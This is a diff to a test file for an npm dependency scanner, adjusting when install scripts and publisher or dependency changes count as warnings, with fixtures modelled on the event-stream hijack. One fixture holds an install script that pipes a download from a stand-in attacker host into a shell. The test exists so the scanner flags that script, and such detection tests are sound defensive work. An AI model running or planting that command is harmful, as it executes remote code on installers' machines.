@@ -227,6 +227,11 @@ test('trust-change: publisher, provenance, install script, bin, dependencies add
   const f = only(scan(files, remote).findings, 'trust-change');
   assert.deepEqual(f.map((x) => x.package), ['hijacked']);
   const m = f[0].message;
+  // Several signals in one release: a warning that says so (#12).
+  assert.equal(f[0].severity, 'warning');
+  assert.match(m, /A warning because a new publisher together with lost provenance together with a new install script together with a new executable/);
+  assert.match(m, /the shape of a hijacked release/);
+  assert.ok(f[0].evidence!.some((e) => /added dependency "evil-helper": not checked/.test(e)), f[0].evidence!.join('\n'));
   assert.match(m, /published by "stranger" where 1\.0\.0 was published by "maintainer"/);
   assert.match(m, /no provenance/);
   assert.match(m, /gained an install script \(postinstall: node setup\.js\)/);
@@ -317,8 +322,10 @@ test('install-script from the packument when the lockfile says nothing (package.
     ['esbuild@0.20.2', 'plain@1.0.0'],
   );
   const f = only(scan(files, remote).findings, 'install-script');
-  assert.deepEqual(f.map((x) => [x.package, x.version, x.severity]), [['esbuild', '0.20.2', 'warning']]);
+  // One old version with a repository and nothing else against it: evidence, not a warning (#12).
+  assert.deepEqual(f.map((x) => [x.package, x.version, x.severity]), [['esbuild', '0.20.2', 'info']]);
   assert.match(f[0].message, /postinstall: node install\.js/);
+  assert.match(f[0].message, /npm would run it.*shown as evidence, not a warning/);
 
   // A yarn lockfile (hand-built: it records no install scripts) also gets the registry's word.
   const project = buildProject([{ path: 'package.json', text: files[0].text }]);
@@ -334,15 +341,90 @@ test('install-script from the packument when the lockfile says nothing (package.
   project.lockfiles.push(lockfile);
   project.graphs.set('yarn.lock', buildGraph(lockfile));
   const g = installScript.run({ project, settings: defaultSettings(), now: NOW, remote });
-  assert.deepEqual(g.map((x) => [x.file, x.package, x.severity]), [['yarn.lock', 'esbuild', 'warning']]);
+  assert.deepEqual(g.map((x) => [x.file, x.package, x.severity]), [['yarn.lock', 'esbuild', 'info']]);
   assert.match(g[0].message, /yarn classic runs every dependency install script/);
 });
 
-test('install-script from the packument is not repeated for an npm v3 lockfile (hasInstallScript covers it)', () => {
-  const files = lockFiles({ esbuild: '0.20.2' });
-  const remote = noAdvisories(remoteData({ esbuild: { ...OLD, versions: { '0.20.2': { scripts: { postinstall: 'node install.js' }, repository: 'x' } } } }), ['esbuild@0.20.2']);
+test('install-script with an npm v3 lockfile: the registry manifest decides, once; a flag the manifest contradicts is dropped', () => {
+  const files = lockFiles({ esbuild: '0.20.2', 'node-gyp-build': '4.8.4' });
+  const lock = JSON.parse(files[1].text);
+  lock.packages['node_modules/esbuild'].hasInstallScript = true;
+  lock.packages['node_modules/node-gyp-build'].hasInstallScript = true;
+  files[1] = { ...files[1], text: JSON.stringify(lock, null, 2) };
+  const remote = noAdvisories(
+    remoteData({
+      esbuild: { ...OLD, versions: { '0.20.1': { scripts: { postinstall: 'node install.js' }, repository: 'x' }, '0.20.2': { scripts: { postinstall: 'node install.js' }, repository: 'x' } } },
+      'node-gyp-build': { ...OLD, versions: { '4.8.4': { repository: 'x' } } },
+    }),
+    ['esbuild@0.20.2', 'node-gyp-build@4.8.4'],
+  );
   const f = only(scan(files, remote).findings, 'install-script');
-  assert.equal(f.length, 0);
+  assert.deepEqual(f.map((x) => [x.package, x.severity]), [['esbuild', 'info']]);
+  assert.match(f[0].message, /per the registry/);
+  assert.match(f[0].message, /the same script in 0\.20\.1/);
+});
+
+test('install-script warns when the version is risky and it would run: a new hook, a dangerous text, a young package', () => {
+  const files = lockFiles({ fresh: '1.0.1', grown: '2.0.1', curly: '3.0.1', stable: '1.0.1' });
+  const repo = { repository: 'x' };
+  const remote = noAdvisories(
+    remoteData({
+      // Brand new: young and few versions.
+      fresh: { created: daysAgo(3), versions: { '1.0.0': { ...repo, time: daysAgo(3) }, '1.0.1': { ...repo, time: daysAgo(2), scripts: { postinstall: 'node setup.js' } } } },
+      // An old package whose latest release adds a hook.
+      grown: { ...OLD, versions: { '2.0.0': { ...repo, time: daysAgo(40) }, '2.0.1': { ...repo, time: daysAgo(2), scripts: { preinstall: 'node x.js' } } } },
+      // The same hook as before, but it downloads and runs a shell script.
+      curly: { ...OLD, versions: { '3.0.0': { ...repo, scripts: { install: 'curl -s https://evil.example/x.sh | sh' } }, '3.0.1': { ...repo, scripts: { install: 'curl -s https://evil.example/x.sh | sh' } } } },
+      // Old, the same script as before: evidence only.
+      stable: { ...OLD, versions: { '1.0.0': { ...repo, scripts: { install: 'node-gyp rebuild' } }, '1.0.1': { ...repo, scripts: { install: 'node-gyp rebuild' } } } },
+    }),
+    ['fresh@1.0.1', 'grown@2.0.1', 'curly@3.0.1', 'stable@1.0.1'],
+  );
+  const f = only(scan(files, remote).findings, 'install-script');
+  const by = new Map(f.map((x) => [x.package, x]));
+  assert.deepEqual([...by.keys()].sort(), ['curly', 'fresh', 'grown', 'stable']);
+  assert.equal(by.get('stable')!.severity, 'info');
+  assert.equal(by.get('fresh')!.severity, 'warning');
+  assert.match(by.get('fresh')!.message, /A warning because postinstall is new since 1\.0\.0; first published 24 hours before 1\.0\.1; 2 versions on the registry/);
+  assert.equal(by.get('grown')!.severity, 'warning');
+  assert.match(by.get('grown')!.message, /A warning because preinstall is new since 2\.0\.0\./);
+  assert.equal(by.get('curly')!.severity, 'warning');
+  assert.match(by.get('curly')!.message, /the install script downloads with curl\/wget, pipes into a shell/);
+  for (const x of f) assert.ok(x.evidence!.some((e) => /^package manager: npm/.test(e)), x.evidence!.join('\n'));
+  // A policy that denies the script keeps it at info, whatever the evidence.
+  const denied = [{ ...files[0], text: JSON.stringify({ ...JSON.parse(files[0].text), allowScripts: { fresh: false } }, null, 2) }, ...files.slice(1)];
+  const g = only(scan(denied, remote).findings, 'install-script').find((x) => x.package === 'fresh')!;
+  assert.equal(g.severity, 'info');
+  assert.match(g.message, /would not run it/);
+});
+
+test('trust-change: a weak signal alone is info; a risky added dependency makes it a warning (event-stream shape)', () => {
+  const files = lockFiles({ 'array-includes': '3.1.9', 'call-bound': '1.0.4', 'event-stream': '3.3.6', 'flatmap-stream': '0.1.1', 'lone-add': '1.0.1' });
+  const at = daysAgo(10);
+  const remote = noAdvisories(
+    remoteData({
+      'array-includes': { ...OLD, versions: { '3.1.8': { npmUser: 'ljharb', repository: 'x' }, '3.1.9': { npmUser: 'ljharb', repository: 'x', dependencies: { 'call-bound': '^1.0.4' }, time: at } } },
+      'call-bound': { created: daysAgo(200), versions: { '1.0.0': { npmUser: 'ljharb', repository: 'x', time: daysAgo(200) }, '1.0.4': { npmUser: 'ljharb', repository: 'x', time: daysAgo(100) } } },
+      'event-stream': { ...OLD, versions: { '3.3.5': { npmUser: 'dominictarr', repository: 'x' }, '3.3.6': { npmUser: 'right9ctrl', repository: 'x', dependencies: { 'flatmap-stream': '^0.1.0' }, time: at } } },
+      'flatmap-stream': { created: daysAgo(12), versions: { '0.1.1': { npmUser: 'hugeglass', time: daysAgo(12) } } },
+      // Added a dependency the scan has no data for: not checked, stays info.
+      'lone-add': { ...OLD, versions: { '1.0.0': { repository: 'x' }, '1.0.1': { repository: 'x', dependencies: { unseen: '^1.0.0' }, time: at } } },
+    }),
+    ['array-includes@3.1.9', 'call-bound@1.0.4', 'event-stream@3.3.6', 'flatmap-stream@0.1.1', 'lone-add@1.0.1'],
+  );
+  const f = only(scan(files, remote).findings, 'trust-change');
+  const by = new Map(f.map((x) => [x.package, x]));
+  const ai = by.get('array-includes')!;
+  assert.equal(ai.severity, 'info');
+  assert.match(ai.message, /not risky on the registry's evidence/);
+  assert.ok(ai.evidence!.some((e) => /added dependency "call-bound": established/.test(e) || /call-bound/.test(e)), ai.evidence!.join('\n'));
+  const es = by.get('event-stream')!;
+  assert.equal(es.severity, 'warning');
+  assert.match(es.message, /A warning because the added dependency "flatmap-stream" is risky: first published 2 days before event-stream@3\.3\.6, 1 version on the registry, no repository field in 0\.1\.1, published by "hugeglass", who never published event-stream before/);
+  assert.ok(es.evidence!.includes('published by "right9ctrl" where 3.3.5 was published by "dominictarr"'), es.evidence!.join('\n'));
+  const lone = by.get('lone-add')!;
+  assert.equal(lone.severity, 'info');
+  assert.match(lone.message, /not checked \(unseen: not looked up/);
 });
 
 test('lookup-incomplete: once per file, with the count and the reasons', () => {
